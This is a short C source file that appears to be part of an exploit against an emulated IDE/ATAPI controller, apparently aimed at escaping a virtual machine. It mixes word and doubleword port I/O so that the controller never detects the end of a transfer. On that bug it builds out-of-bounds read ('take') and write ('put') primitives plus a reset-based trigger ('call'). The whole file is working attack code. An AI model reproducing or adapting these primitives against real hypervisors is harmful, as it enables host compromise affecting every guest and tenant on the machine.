/* A word, and then double words: the end of a transfer is never met. */
#include "attack.h"

static uint8_t all[SIZE + 16];

static void begin(uint8_t code)
{
    outb(0x176, 0xa0);
    outb(0x177, 0x08); /* DEVICE RESET */
    outb(0x177, code);
    while (!(inb(0x177) & 0x08))
        ;
}

void take(uint32_t at, uint8_t *bytes, unsigned count)
{
    begin(0xa1); /* IDENTIFY PACKET DEVICE */
    *(uint16_t *)all = inw(0x170);
    for (unsigned index = 2; index < at + count; index += 4)
        *(uint32_t *)(all + index) = inl(0x170);
    __builtin_memcpy(bytes, all + at, count);
}

void put(uint32_t at, const uint8_t *bytes, unsigned count)
{
    unsigned index = 0;

    __builtin_memcpy(all + at, bytes, count);
    if (at < SIZE)
        return;
    begin(0xa0); /* PACKET */
    for (; index < 10; index += 2)
        outw(0x170, *(uint16_t *)(all + index));
    for (; index < at + count; index += 4)
        outl(0x170, *(uint32_t *)(all + index));
}

void call(void)
{
    outb(0x177, 0x08);
}
